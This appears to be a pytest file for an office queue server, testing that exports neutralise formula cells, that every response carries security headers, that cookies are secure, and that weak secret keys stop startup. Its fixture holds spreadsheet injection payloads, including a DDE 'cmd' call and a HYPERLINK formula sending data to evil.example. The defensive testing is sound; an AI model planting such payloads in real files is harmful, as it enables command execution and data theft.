"""The web as a hostile client meets it (issue 10), the pages' side: formula cells in every export, the security
headers on every kind of response and HTTPS cookies, an unusable ``web.secret`` (the connections, sign-in floods and
replayed cookies are in ``test_hostile_web.py``)."""

from __future__ import annotations

import csv
import io
import itertools
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook  # type: ignore[import-untyped]

from queue_server.app import OfficeServer, secret_file
from queue_server.config import ConfigError, load_settings
from queue_server.reports import csv as csv_report
from queue_server.reports import xlsx as xlsx_report
from queue_server.reports.cells import inert
from queue_server.reports.document import Cell, CellKind, Document, Table
from queue_server.reports.text import language
from queue_server.service import OfficeService
from queue_server.store.event_store import EventStore
from queue_server.store.web_users import create_user
from tests.fakes import OfficeClock
from tests.integration.web_support import (
    FAST_HASH,
    PASSWORD,
    USERS,
    Office,
    csrf_token,
    day_of_three_visits,
    login,
    make_app,
)

# --- exports ----------------------------------------------------------------------------------------------------

HOSTILE = {
    "office": "=cmd|' /C calc'!A0",
    "service": '=HYPERLINK("http://evil.example/?d="&A1,"Hộ tịch")',
    "staff": "@SUM(1+1)*cmd|' /C calc'!A0",
    "counter": "+1+2",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_office(tmp_path: Path) -> Iterator[Office]:
    """An office whose names an administrator (or an attacker with admin rights) made formulas."""
    store = EventStore(f"sqlite:///{tmp_path}/office.db", "tuan-giao")
    store.migrate()
    setup = load_settings().office_setup()
    services = tuple(replace(s, name_vi=HOSTILE["service"]) if s.id == "ho-tich" else s for s in setup.services)
    staff = tuple(replace(s, name=HOSTILE["staff"]) if s.id == "nv-lan" else s for s in setup.staff)
    counters = tuple(replace(c, name=HOSTILE["counter"]) if c.id == "quay-1" else c for c in setup.counters)
    setup = replace(setup, name=HOSTILE["office"], services=services, staff=staff, counters=counters)
    clock = OfficeClock()
    ids = (f"tk{i:014d}" for i in itertools.count())
    service = OfficeService(setup=setup, store=store, devices=lambda _: None, clock=clock, new_id=lambda: next(ids))
    service.start()
    for username, fields in USERS.items():
        create_user(store.engine, username, PASSWORD, password_method=FAST_HASH, **fields)
    yield Office(store, setup, service, clock)
    store.close()


def test_names_that_are_formulas_stay_text_in_every_export(hostile_office: Office) -> None:
    day_of_three_visits(hostile_office)
    client = make_app(hostile_office).test_client()
    login(client, "boss")
    query = "period=day&date=2026-11-23"
    for kind in ("", "&kind=staff"):
        workbook = load_workbook(io.BytesIO(client.get(f"/dashboard/export.xlsx?{query}{kind}").data))
        texts = [c for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert all(c.data_type == "s" and not c.value.startswith(TRIGGERS) for c in texts)
        found = {c.value for c in texts}
        assert "'" + HOSTILE["service"] in found and "'" + HOSTILE["office"] in " ".join(found)
        numbers = [c for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, int | float)]
        assert numbers and all(c.data_type == "n" for c in numbers)
        rows = list(
            csv.reader(io.StringIO(client.get(f"/dashboard/export.csv?{query}{kind}").data.decode("utf-8-sig")))
        )
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(TRIGGERS) and not _number(cell) for cell in cells)
        assert "'" + HOSTILE["service"] in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_renderers_neutralise_every_text_and_keep_negative_numbers() -> None:
    """What the office's, the province's and ``motcua stats``'s exports share: every place text goes."""
    table = Table(
        "t",
        "=title()",
        ("@heading", "-heading", "value"),
        (
            (Cell("\tTab"), Cell("\rCR"), Cell(-3.5, CellKind.NUMBER)),
            (Cell("-12"), Cell("+x"), Cell(-2, CellKind.COUNT)),
        ),
    )
    document = Document(
        "=TITLE", "q1", date(2026, 1, 1), date(2026, 1, 1), (("+fact", "=value"),), (table,), language("vi")
    )
    cells = [c for row in csv.reader(io.StringIO(csv_report.render(document).decode("utf-8-sig"))) for c in row]
    assert {"'=TITLE", "'+fact", "'=value", "'=title()", "'@heading", "'-heading", "'\tTab", "'\rCR", "'+x"} <= set(
        cells
    )
    assert "-3.5" in cells and "-2" in cells and "-12" in cells  # numbers, negative ones too, stay numbers
    workbook = load_workbook(io.BytesIO(xlsx_report.render(document)))
    values = {c.value for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None}
    assert {"'=TITLE", "'+fact", "'=value", "'=title()", "'@heading", "'\tTab", "'+x"} <= values
    assert -3.5 in values and -2 in values
    assert inert("-1.5e3") == "-1.5e3" and inert("-") == "'-" and inert("=1") == "'=1" and inert("a=b") == "a=b"


# --- headers ----------------------------------------------------------------------------------------------------

SECURITY_HEADERS = ("Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Referrer-Policy")


@pytest.mark.parametrize(
    ("who", "path", "status"),
    [
        (None, "/auth/login", 200),
        (None, "/static/style.css", 200),
        (None, "/no/such/page", 404),
        (None, "/t/not-a-ticket-id", 404),
        ("lan", "/dashboard", 403),
        (None, "/auth/logout", 405),
        (None, "/boom", 500),
    ],
)
def test_every_response_carries_the_security_headers(office: Office, who: str | None, path: str, status: int) -> None:
    app = make_app(office, PROPAGATE_EXCEPTIONS=False)
    app.add_url_rule("/boom", "boom", lambda: 1 / 0)
    client = app.test_client()
    if who:
        login(client, who)
    response = client.get(path)
    assert response.status_code == status
    assert all(name in response.headers for name in SECURITY_HEADERS), response.headers
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy and "unsafe-inline" not in policy
    assert response.headers["X-Frame-Options"] == "DENY" and response.headers["X-Content-Type-Options"] == "nosniff"


def test_rate_limited_answers_carry_them_too(client: FlaskClient) -> None:
    for _ in range(6):
        response = client.post(
            "/auth/login", data={"username": "boss", "password": "x", "csrf_token": csrf_token(client)}
        )
    assert response.status_code == 429 and "Content-Security-Policy" in response.headers


def test_no_template_needs_inline_script_or_style() -> None:
    """The CSP allows only the app's own files: an inline script, style block or style attribute would be dead."""
    templates = Path(__file__).resolve().parents[2] / "queue_server" / "web" / "templates"
    for template in templates.glob("*.html"):
        text = template.read_text()
        assert "<style" not in text and " style=" not in text and " on" + "click=" not in text, template.name
        for part in text.split("<script")[1:]:
            assert part.split(">")[0].strip().startswith("src="), template.name


def test_cookies_are_secure_and_hsts_sent_on_https_only(office: Office) -> None:
    app = make_app(office)
    plain = app.test_client().get("/auth/login")
    secure = app.test_client().get("/auth/login", base_url="https://office.example")
    assert "Strict-Transport-Security" not in plain.headers and "Secure" not in plain.headers["Set-Cookie"]
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"
    set_cookie = secure.headers["Set-Cookie"]
    assert "Secure" in set_cookie and "HttpOnly" in set_cookie and "SameSite=Lax" in set_cookie
    forced = make_app(office, SECURE_COOKIES=True).test_client().get("/auth/login")
    assert "Secure" in forced.headers["Set-Cookie"]


# --- web.secret -------------------------------------------------------------------------------------------------


def office_config(tmp_path: Path) -> Path:
    path = tmp_path / "motcua.toml"
    path.write_text(
        f'[broker]\nport = {free_port()}\n[store]\nurl = "sqlite:///{tmp_path}/office.db"\n'
        f'[server]\ndata_dir = "{tmp_path / "data"}"\n[web]\nport = 0\n'
    )
    return path


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("content", ["", "\n", "short-key"])
def test_an_unusable_web_secret_stops_the_start_naming_the_file(tmp_path: Path, content: str) -> None:
    settings = load_settings(office_config(tmp_path))
    secret = tmp_path / "data" / "web.secret"
    secret.parent.mkdir(parents=True)
    secret.write_text(content)
    server = OfficeServer(settings)
    with pytest.raises(ConfigError, match=re.escape(str(secret))) as error:
        server.start()
    assert "empty" in str(error.value) or "too short" in str(error.value)
    assert server.store is None and server.broker is None  # refused before anything started
    command = [sys.executable, "-m", "queue_server.cli", "--config", str(office_config(tmp_path)), "server"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and f"motcua: secret file {secret}" in done.stderr


def test_a_short_configured_key_is_refused_too(tmp_path: Path) -> None:
    config = office_config(tmp_path)
    config.write_text(config.read_text() + 'secret_key = "too-short"\n')
    with pytest.raises(ConfigError, match=r"web\.secret_key \(configuration\) is too short"):
        OfficeServer(load_settings(config)).start()


def test_the_province_web_key_is_refused_the_same_way(tmp_path: Path) -> None:
    from queue_server.province.config import load_province_settings
    from queue_server.province.main import web_secret_key

    path = tmp_path / "province.toml"
    path.write_text(f'offices = ["q1"]\ndata_dir = "{tmp_path}"\n[broker]\npassword = "x"\n')
    (tmp_path / "province-web.secret").write_text("")
    with pytest.raises(ConfigError, match=r"province-web\.secret is empty"):
        web_secret_key(load_province_settings(path))


def test_the_secret_is_written_whole_once_and_private(tmp_path: Path) -> None:
    path = tmp_path / "new" / "web.secret"
    found: list[str] = []
    threads = [threading.Thread(target=lambda: found.append(secret_file(path))) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(found)) == 1 and len(found[0]) == 32  # racing first starts agree on one key
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["web.secret"]  # no temporary file left
    path.chmod(0o644)
    assert secret_file(path) == found[0] and path.stat().st_mode & 0o777 == 0o600
